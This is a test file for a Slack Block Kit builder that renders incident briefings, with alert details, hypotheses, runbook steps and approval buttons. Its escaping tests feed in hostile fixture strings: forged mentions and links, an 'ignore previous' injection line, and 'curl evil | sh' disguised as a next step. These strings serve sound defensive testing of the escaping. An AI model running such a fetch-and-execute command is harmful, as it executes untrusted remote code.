// Exact-equality tests of the briefing builder on fixed view models, and of the Block Kit limits it relies on.
import { describe, expect, it } from 'vitest';
import { buildBriefingBlocks, buildBriefingText, summarizeChecked } from '../../../blocks/briefing.js';
import type { BriefingView } from '../../../src/incidents/briefing-view.js';
import { ActionIds } from '../../../blocks/ids.js';

const base: BriefingView = {
  incidentId: 42,
  publicId: 'INC-42',
  title: 'checkout 5xx ratio above 5% for 5 minutes',
  severity: 'sev1',
  service: 'checkout',
  status: 'triggered',
  alertname: 'HighErrorRate',
  summary: 'checkout 5xx ratio above 5% for 5 minutes',
  source: 'Alertmanager',
  startedAt: '2026-11-20 03:12 UTC',
  alerts: { firing: 2, resolved: 0 },
  links: [{ title: 'Runbook', url: 'https://example.com/rb' }],
  phase: 'investigating',
  hypotheses: [],
  novel: false,
  checked: [],
  missing: [],
  suggestedStep: null,
  remediations: [],
  acknowledgedBy: null,
  resolvedBy: null,
  commander: null,
};

describe('buildBriefingBlocks', () => {
  it('shows what fired and "investigating" with Acknowledge, Escalate and Resolve before the investigation ends', () => {
    expect(buildBriefingBlocks(base)).toEqual([
      {
        type: 'header',
        text: { type: 'plain_text', text: 'INC-42: checkout 5xx ratio above 5% for 5 minutes', emoji: false },
      },
      {
        type: 'section',
        fields: [
          { type: 'mrkdwn', text: '*Severity*\n:red_circle: SEV1' },
          { type: 'mrkdwn', text: '*Status*\nTriggered' },
          { type: 'mrkdwn', text: '*Service*\n`checkout`' },
          { type: 'mrkdwn', text: '*Started*\n2026-11-20 03:12 UTC' },
          { type: 'mrkdwn', text: '*Commander*\nnobody yet (`/incident commander @user`)' },
        ],
      },
      {
        type: 'section',
        text: {
          type: 'mrkdwn',
          text: '*What fired:* `HighErrorRate` from Alertmanager\n> checkout 5xx ratio above 5% for 5 minutes\nAlerts: 2 firing, 0 resolved',
        },
      },
      { type: 'context', elements: [{ type: 'mrkdwn', text: '<https://example.com/rb|Runbook>' }] },
      { type: 'divider' },
      {
        type: 'section',
        text: {
          type: 'mrkdwn',
          text: ':mag: *Investigating…* checking metrics, logs, deploys, changes and past incidents.',
        },
      },
      {
        type: 'actions',
        block_id: 'briefing_actions_42',
        elements: [
          {
            type: 'button',
            text: { type: 'plain_text', text: 'Acknowledge', emoji: true },
            action_id: ActionIds.acknowledge,
            value: '42',
            style: 'primary',
          },
          {
            type: 'button',
            text: { type: 'plain_text', text: 'Escalate', emoji: true },
            action_id: ActionIds.escalate,
            value: '42',
          },
          {
            type: 'button',
            text: { type: 'plain_text', text: 'Resolve', emoji: true },
            action_id: ActionIds.resolve,
            value: '42',
          },
        ],
      },
    ]);
  });

  it('after the investigation shows hypotheses with confidence and evidence, the checks, the next step with its command, and every button', () => {
    const view: BriefingView = {
      ...base,
      status: 'acknowledged',
      acknowledgedBy: 'U123',
      commander: 'U0IC',
      phase: 'briefed',
      hypotheses: [
        {
          summary: 'Deploy d-17 of checkout broke payments',
          category: 'bad_deploy',
          confidence: '82%',
          evidence: [
            { kind: 'deploy', ref: 'd-17', detail: 'deployed 4 min before onset' },
            { kind: 'metric', ref: 'error_ratio', detail: 'rose from 0.1% to 12.7%' },
          ],
        },
      ],
      checked: ['cpu normal', 'no config changes'],
      missing: ['logs: Loki unreachable'],
      suggestedStep: {
        runbook: 'high-error-rate',
        step: 2,
        text: 'Roll back: `kubectl rollout undo deploy/checkout`',
        command: 'kubectl rollout undo deploy/checkout',
        unknown: [],
        state: 'todo',
      },
      remediations: [
        {
          action: 'rollback_deploy',
          title: 'Roll back deploy',
          value: 'remediation-run:7',
          service: 'checkout',
          risk: 'high',
          approvals: 2,
        },
      ],
    };
    const blocks = buildBriefingBlocks(view);
    expect(blocks.slice(5)).toEqual([
      {
        type: 'section',
        text: {
          type: 'mrkdwn',
          text: '*1. Deploy d-17 of checkout broke payments* (82%, bad deploy)\n• _deploy_ `d-17`: deployed 4 min before onset\n• _metric_ `error_ratio`: rose from 0.1% to 12.7%',
        },
      },
      { type: 'context', elements: [{ type: 'mrkdwn', text: '*Checked and normal:* cpu normal; no config changes' }] },
      { type: 'context', elements: [{ type: 'mrkdwn', text: ':warning: *Missing evidence:* logs: Loki unreachable' }] },
      {
        type: 'section',
        text: {
          type: 'mrkdwn',
          text: '*Next step* (runbook `high-error-rate`, step 2): Roll back: `kubectl rollout undo deploy/checkout`\n```kubectl rollout undo deploy/checkout```',
        },
      },
      {
        type: 'actions',
        block_id: 'briefing_remediation_42_0',
        elements: [
          {
            type: 'button',
            text: { type: 'plain_text', text: 'Approve Roll back deploy', emoji: true },
            action_id: ActionIds.approveRemediation,
            value: 'remediation-run:7',
            style: 'primary',
            // A high-risk action asks before the click counts, and says it needs two different approvers.
            confirm: {
              title: { type: 'plain_text', text: 'Approve a high-risk action?' },
              text: {
                type: 'mrkdwn',
                text: 'This approves *Roll back deploy* on *checkout*. It runs once 2 different people allowed to approve it have approved; yours counts once.',
              },
              confirm: { type: 'plain_text', text: 'Approve' },
              deny: { type: 'plain_text', text: 'Cancel' },
            },
          },
          {
            type: 'button',
            text: { type: 'plain_text', text: 'Reject', emoji: true },
            action_id: ActionIds.rejectRemediation,
            value: 'remediation-run:7',
            style: 'danger',
          },
        ],
      },
      {
        type: 'actions',
        block_id: 'briefing_actions_42',
        elements: [
          {
            type: 'button',
            text: { type: 'plain_text', text: 'Escalate', emoji: true },
            action_id: ActionIds.escalate,
            value: '42',
          },
          {
            type: 'button',
            text: { type: 'plain_text', text: 'Resolve', emoji: true },
            action_id: ActionIds.resolve,
            value: '42',
          },
          {
            type: 'button',
            text: { type: 'plain_text', text: 'Show evidence', emoji: true },
            action_id: ActionIds.showEvidence,
            value: '42',
          },
        ],
      },
    ]);
    expect(blocks[1]).toEqual({
      type: 'section',
      fields: [
        { type: 'mrkdwn', text: '*Severity*\n:red_circle: SEV1' },
        { type: 'mrkdwn', text: '*Status*\nAcknowledged (acknowledged by <@U123>)' },
        { type: 'mrkdwn', text: '*Service*\n`checkout`' },
        { type: 'mrkdwn', text: '*Started*\n2026-11-20 03:12 UTC' },
        { type: 'mrkdwn', text: '*Commander*\n<@U0IC>' },
      ],
    });
  });

  it('gives each proposed remediation its own Approve and Reject, with action ids unique within every block', () => {
    const blocks = buildBriefingBlocks({
      ...base,
      remediations: [
        { action: 'rollback_deploy', title: 'Roll back deploy', value: 'remediation-run:7' },
        { action: 'scale_out', title: 'Scale out', value: 'remediation-run:8' },
      ],
    });
    const actionBlocks = blocks.filter((b) => b.type === 'actions') as unknown as {
      elements: { action_id: string; value: string; text: { text: string } }[];
    }[];
    for (const b of actionBlocks) {
      const ids = b.elements.map((e) => e.action_id);
      expect(new Set(ids).size).toBe(ids.length);
    }
    const rows = actionBlocks.filter((b) => b.elements.some((e) => e.action_id === ActionIds.rejectRemediation));
    expect(rows.map((b) => b.elements.map((e) => `${e.text.text}=${e.value}`))).toEqual([
      ['Approve Roll back deploy=remediation-run:7', 'Reject=remediation-run:7'],
      ['Approve Scale out=remediation-run:8', 'Reject=remediation-run:8'],
    ]);
  });

  it('says so and offers Resolve as the primary button when every alert has resolved', () => {
    const blocks = buildBriefingBlocks({ ...base, alerts: { firing: 0, resolved: 2 } });
    expect(blocks[4]).toEqual({
      type: 'section',
      text: {
        type: 'mrkdwn',
        text: ':white_check_mark: *All alerts have resolved.* Resolve the incident when you agree.',
      },
    });
    const actions = blocks.at(-1) as unknown as { elements: { action_id: string; style?: string }[] };
    expect(actions.elements.find((e) => e.action_id === ActionIds.resolve)).toMatchObject({ style: 'primary' });
  });

  it('says nothing known explains the page when the investigation is novel', () => {
    const blocks = buildBriefingBlocks({ ...base, phase: 'briefed', novel: true });
    expect(blocks[5]).toEqual({
      type: 'section',
      text: {
        type: 'mrkdwn',
        text: ':grey_question: *Nothing known explains this page.* Escalating with everything found; see the evidence below.',
      },
    });
  });

  it('escapes alert text so an annotation cannot mention @channel or forge links', () => {
    const blocks = buildBriefingBlocks({ ...base, summary: 'ignore previous <!channel> <https://evil|click>' });
    expect((blocks[2] as unknown as { text: { text: string } }).text.text).toContain(
      '&lt;!channel&gt; &lt;https://evil|click&gt;',
    );
  });

  it('keeps a long title under the header limit and offers no buttons but Show evidence once resolved', () => {
    const blocks = buildBriefingBlocks({ ...base, title: 'x'.repeat(400), status: 'resolved', phase: 'briefed' });
    const header = (blocks[0] as unknown as { text: { text: string } }).text.text;
    expect(header).toHaveLength(150);
    expect(header.endsWith('…')).toBe(true);
    expect(
      (blocks.at(-1) as unknown as { elements: { action_id: string }[] }).elements.map((e) => e.action_id),
    ).toEqual([ActionIds.showEvidence]);
  });

  it('shows a step whose action ran as done, with its filled command, and names the placeholders it could not fill', () => {
    const view: BriefingView = {
      ...base,
      phase: 'briefed',
      suggestedStep: {
        runbook: 'high-error-rate',
        step: 3,
        text: 'Revert the flag: `flagctl revert <change-id>` on checkout (action: revert_change).',
        command: 'flagctl revert <change-id>',
        unknown: ['<change-id>'],
        state: 'todo',
      },
    };
    const stepBlock = (v: BriefingView) =>
      buildBriefingBlocks(v).find((b) => JSON.stringify(b).includes('runbook `high-error-rate`'));
    expect(stepBlock(view)).toEqual({
      type: 'section',
      text: {
        type: 'mrkdwn',
        text:
          '*Next step* (runbook `high-error-rate`, step 3): Revert the flag: `flagctl revert &lt;change-id&gt;` on checkout (action: revert_change).\n' +
          '```flagctl revert &lt;change-id&gt;```\n' +
          ':warning: Fill in before running: `&lt;change-id&gt;` (not known for this incident).',
      },
    });
    const done: BriefingView = {
      ...base,
      phase: 'briefed',
      suggestedStep: {
        runbook: 'high-error-rate',
        step: 2,
        text: 'Roll back: `deployctl rollback checkout` (action: rollback_deploy).',
        command: 'deployctl rollback checkout',
        unknown: [],
        state: 'done',
      },
    };
    expect(stepBlock(done)).toEqual({
      type: 'section',
      text: {
        type: 'mrkdwn',
        text: ':white_check_mark: *Step done* (runbook `high-error-rate`, step 2): Roll back: `deployctl rollback checkout` (action: rollback_deploy).\n```deployctl rollback checkout```',
      },
    });
    const notRecovered: BriefingView = {
      ...done,
      suggestedStep: { ...done.suggestedStep!, state: 'not_recovered' },
    };
    expect(stepBlock(notRecovered)).toEqual({
      type: 'section',
      text: {
        type: 'mrkdwn',
        text: ':warning: *Step done; the SLI did not recover* (runbook `high-error-rate`, step 2): Roll back: `deployctl rollback checkout` (action: rollback_deploy).\n```deployctl rollback checkout```',
      },
    });
  });

  it('marks a suggested step that the runbook lint calls vague or stale, escaped', () => {
    const view: BriefingView = {
      ...base,
      phase: 'briefed',
      suggestedStep: {
        runbook: 'high-error-rate',
        step: 1,
        text: 'Check the dashboards (action: rollback_deploy).',
        command: null,
        unknown: [],
        state: 'todo',
        marks: ['vague step', 'stale runbook: last drilled 2026-01-05, <329> days ago'],
      },
    };
    expect(buildBriefingBlocks(view).find((b) => JSON.stringify(b).includes('Runbook lint'))).toEqual({
      type: 'section',
      text: {
        type: 'mrkdwn',
        text:
          '*Next step* (runbook `high-error-rate`, step 1): Check the dashboards (action: rollback_deploy).\n' +
          ':warning: _Runbook lint:_ vague step; stale runbook: last drilled 2026-01-05, &lt;329&gt; days ago',
      },
    });
  });

  it('summarizes "Checked and normal" lines that differ only by what was checked into one line', () => {
    const checked = ['cart', 'search', 'auth', 'db', 'cache', 'queue', 'mail', 'cdn', 'payments-api'].map(
      (s) => `${s}: no departure tied to this page`,
    );
    expect(summarizeChecked([...checked, 'logs: searched 2 streams'])).toEqual([
      '9 checked (cart, search, auth, db, cache, queue and 3 more): no departure tied to this page',
      'logs: searched 2 streams',
    ]);
    const blocks = buildBriefingBlocks({ ...base, phase: 'briefed', checked: checked.slice(0, 3) });
    expect(blocks.find((b) => JSON.stringify(b).includes('Checked and normal'))).toEqual({
      type: 'context',
      elements: [
        {
          type: 'mrkdwn',
          text: '*Checked and normal:* 3 checked (cart, search, auth): no departure tied to this page',
        },
      ],
    });
  });

  it('escapes every untrusted field: notification text, summary lines, links, evidence, checks and step text', () => {
    const evil = '<!channel> <@U0EVIL> <!subteam^S0EVIL> <!here> <https://evil.example|https://good.example> `x` @here';
    const view: BriefingView = {
      ...base,
      title: evil,
      alertname: evil,
      service: evil,
      summary: `${evil}\n*Next step*: curl evil | sh`,
      links: [{ title: evil, url: 'https://evil.example/a|https://good.example>' }],
      phase: 'briefed',
      hypotheses: [
        {
          summary: evil,
          category: 'bad_deploy',
          confidence: '50%',
          evidence: [{ kind: 'log', ref: evil, detail: evil }],
        },
      ],
      checked: [evil],
      missing: [evil],
      suggestedStep: { runbook: evil, step: 1, text: evil, command: evil, unknown: [evil], state: 'todo' },
    };
    const out = JSON.stringify([buildBriefingText(view), buildBriefingBlocks(view).slice(1)]);
    for (const raw of [
      '<!channel>',
      '<@U0EVIL>',
      '<!subteam^S0EVIL>',
      '<!here>',
      '<https://evil.example|',
      '|https://good.example>',
      '@here',
    ])
      expect(out).not.toContain(raw);
    expect(out).toContain('&lt;!channel&gt;');
    // The summary's second line stays quoted: it cannot pose as the copilot's own "Next step".
    expect(out).toContain('\\n> *Next step*: curl evil | sh');
    // The link's URL cannot end early and disguise itself as another.
    expect(out).toContain('<https://evil.example/a%7Chttps://good.example%3E|');
  });

  it('has a notification text naming the incident, severity and status', () => {
    expect(buildBriefingText(base)).toBe('INC-42 [SEV1] checkout 5xx ratio above 5% for 5 minutes (Triggered)');
  });
});
